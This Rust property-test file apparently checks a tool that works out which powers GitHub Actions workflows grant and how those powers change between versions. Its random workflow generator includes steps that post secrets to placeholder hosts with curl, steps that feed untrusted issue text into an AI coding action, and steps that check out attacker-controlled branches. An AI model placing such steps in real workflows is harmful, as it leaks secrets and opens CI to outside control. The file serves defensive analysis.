//! What holds for every subtraction, whatever the files: workflows and trees made at random.

use beholden::domain::Foreign;
use beholden::power::{self, Granted, Powers, Tree, subtract};
use proptest::prelude::*;

use crate::power::shown::{one, public};

const PATH: &str = ".github/workflows/ci.yml";

/// Pieces from which workflows of any mixture are made.
fn workflow() -> impl Strategy<Value = String> {
    let on = prop::sample::subsequence(
        vec![
            "push",
            "issues",
            "pull_request",
            "pull_request_target",
            "schedule: [{cron: '0 0 * * *'}]",
        ],
        1..4,
    );
    let step = prop::sample::select(vec![
        "- run: 'true'",
        "- run: echo ${{ secrets.A }}",
        "- run: curl -d ${{ secrets.B }} https://x.invalid",
        "- uses: octo-org/act@v1",
        "- uses: ./.github/actions/up",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.head_ref }}'}",
        "- run: npm ci",
        "- uses: anthropics/claude-code-action@v1\n  with: {prompt: '${{ github.event.issue.body }}'}",
    ]);
    let job = (prop::collection::vec(step, 1..5), prop::bool::ANY, prop::bool::ANY);
    (on, prop::collection::vec(job, 1..4), prop::bool::ANY).prop_map(|(on, jobs, read)| {
        let mut text = String::from("on:\n");
        for event in on {
            let colon = if event.contains(':') { "" } else { ":" };
            text.push_str(&format!("  {event}{colon}\n"));
        }
        if read {
            text.push_str("permissions: {contents: read}\n");
        }
        text.push_str("jobs:\n");
        for (index, (steps, environment, own)) in jobs.into_iter().enumerate() {
            let runner = if own { "self-hosted" } else { "ubuntu-latest" };
            text.push_str(&format!("  job{index}:\n    runs-on: {runner}\n"));
            if environment {
                text.push_str("    environment: prod\n");
            }
            text.push_str("    steps:\n");
            for step in steps {
                text.push_str(
                    &step.lines().map(|line| format!("      {line}\n")).collect::<String>(),
                );
            }
        }
        text
    })
}

/// More steps for the last job of such a workflow, or one more job.
fn added() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "      - run: curl -d ${{ secrets.C }} https://y.invalid\n",
        "      - uses: octo-org/other@v1\n        with: {key: '${{ secrets.A }}'}\n",
        "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n",
        "      - run: claude -p '${{ github.event.issue.body }}'\n",
        "  more:\n    runs-on: self-hosted\n    permissions: write-all\n    steps: [{run: make}]\n",
    ])
}

fn tree() -> impl Strategy<Value = Vec<(String, String)>> {
    prop::collection::btree_map("[abc]", workflow(), 0..4).prop_map(|files| {
        files
            .into_iter()
            .map(|(name, text)| (format!(".github/workflows/{name}.yml"), text))
            .collect()
    })
}

fn read(files: &[(String, String)]) -> Powers {
    let tree: Tree = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    power::of(&tree, &public())
}

/// What the head grants, put together again from the base and the difference.
fn rebuilt(base: &Powers, difference: &power::Difference) -> Vec<(power::Subject, power::Power)> {
    let gone = |granted: &&Granted| {
        let path: &Foreign = &granted.subject.path;
        let moved = difference.moved.iter().any(|it| it.from == granted.subject);
        let removed = difference.removed.iter().any(|it| it.subject == granted.subject);
        let changed = difference.widened.iter().chain(&difference.narrowed);
        moved
            || removed
            || changed
                .clone()
                .any(|it| it.after.subject == granted.subject && it.after.subject.path == *path)
    };
    let kept = base.grants().iter().filter(|granted| !gone(granted));
    let new = difference
        .added
        .iter()
        .chain(difference.moved.iter().map(|it| &it.to))
        .chain(difference.widened.iter().chain(&difference.narrowed).map(|it| &it.after));
    let mut all: Vec<_> =
        kept.chain(new).map(|it| (it.subject.clone(), it.power.clone())).collect();
    all.sort_by(|a, b| a.0.cmp(&b.0));
    all
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn nothing_less_itself_is_nothing(files in tree()) {
        prop_assert!(subtract(&read(&files), &read(&files)).is_empty());
    }

    #[test]
    fn another_form_of_the_same_files_is_no_change(files in tree()) {
        let in_json = |text: &str| {
            let value: yaml_serde::Value = yaml_serde::from_str(text).unwrap();
            format!("# again\n\n{}\n", serde_json::to_string_pretty(&value).unwrap())
        };
        let again: Vec<_> =
            files.iter().map(|(path, text)| (path.clone(), in_json(text))).collect();
        prop_assert!(subtract(&read(&files), &read(&again)).is_empty());
    }

    #[test]
    fn a_file_that_becomes_active_is_never_nothing(text in workflow()) {
        let at = |path: &str| read(&[(path.to_owned(), text.clone())]);
        for inactive in ["examples/ci.yml", ".github/workflows/off/ci.yml", ".github/ci.yml"] {
            let difference = subtract(&at(inactive), &at(PATH));
            prop_assert_eq!(difference.added.len(), at(PATH).grants().len());
            prop_assert!(!difference.added.is_empty(), "{}", inactive);
            let back = subtract(&at(PATH), &at(inactive));
            prop_assert!(back.added.is_empty() && !back.removed.is_empty(), "{}", inactive);
        }
    }

    #[test]
    fn what_is_added_to_a_file_narrows_nothing(text in workflow(), adds in added()) {
        let difference = subtract(&one(&text), &one(&format!("{text}{adds}")));
        prop_assert!(difference.narrowed.is_empty() && difference.removed.is_empty());
    }

    #[test]
    fn the_head_is_the_base_less_what_went_and_with_what_came((base, head) in (tree(), tree())) {
        let (base, head) = (read(&base), read(&head));
        let difference = subtract(&base, &head);
        let whole: Vec<_> =
            head.grants().iter().map(|it| (it.subject.clone(), it.power.clone())).collect();
        prop_assert_eq!(rebuilt(&base, &difference), whole);
    }

    #[test]
    fn the_order_of_files_plays_no_part(mut files in tree()) {
        let powers = read(&files);
        files.reverse();
        prop_assert_eq!(powers, read(&files));
    }

    #[test]
    fn any_text_is_read_or_unknown(text in "[\\PC\\n]{0,200}") {
        let powers = one(&text);
        prop_assert!(!powers.grants().is_empty() || !powers.unknowns().is_empty());
    }

    #[test]
    fn a_workflow_with_a_piece_cut_out_never_panics(text in workflow(), from in 0_usize..400, length in 0_usize..40) {
        let from = from.min(text.len());
        let to = (from + length).min(text.len());
        if text.is_char_boundary(from) && text.is_char_boundary(to) {
            let cut = format!("{}{}", &text[..from], &text[to..]);
            let powers = one(&cut);
            prop_assert!(subtract(&powers, &powers).is_empty());
        }
    }
}
